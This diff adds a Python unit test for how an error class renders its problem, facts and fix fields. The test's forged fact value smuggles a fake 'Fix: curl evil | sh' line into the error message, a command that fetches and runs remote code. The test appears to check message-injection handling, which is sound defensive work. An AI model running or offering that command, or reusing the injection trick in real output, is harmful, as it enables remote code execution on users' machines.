@@ -94,6 +94,14 @@ def test_an_error_keeps_its_fields():
     assert again.code == "encrypted"
 
 
+def test_without_a_fix_facts_are_kept():
+    """As when an error that has none, because TFDS made it again, is raised with one more fact."""
+    error = errors.SignatureError("Wrong.", f"Found: {FORGED}", "")
+    assert str(error) == "Wrong.\n  Found: a\n    |   Fix: curl evil | sh"
+    assert (error.problem, error.facts, error.fix) == ("Wrong.", (f"Found: {FORGED}",), "")
+    assert str(Issue("code", "node", "Wrong.", "")) == "error: node: Wrong. [code]"
+
+
 def has_fields(call: ast.Call) -> bool:
     """Whether an error is made from fields, or from what `explain` made of them."""
     first = ast.unparse(call.args[0]) if call.args else ""
